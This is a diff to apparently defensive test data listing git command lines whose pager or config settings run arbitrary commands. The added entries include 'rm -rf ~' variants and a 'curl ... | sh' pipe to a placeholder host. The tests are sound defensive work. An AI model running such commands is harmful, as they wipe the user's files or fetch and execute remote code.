@@ -111,13 +111,15 @@ PAGER_READS = [
     "git -c pager.log=false log",
 ]
 PAGER_RUNS = [
-    "git -c core.pager='sh -c id' log",
+    "git -c core.pager='sh -c \"rm -rf ~\"' log",
     "git -c core.pager='!rm -rf ~' log",
     "git -c core.pager='less; rm -rf ~' log",
-    "git -c core.pager=./evil log",
+    "git -c core.pager=/tmp/evil log",
     "git -c core.pager=\"$X\" log",
     "git -c core.pager='curl -s https://x.example' log",
-    "git -c pager.log='sh -c id' log",
+    "git -c pager.log='curl -s https://x.example | sh' log",
+    "git --config-env=core.pager=X log",
+    "GIT_PAGER='rm -rf ~' git log",
     "git -c core.editor=vim commit",
     "git -c core.sshCommand='ssh -i x' fetch",
 ]
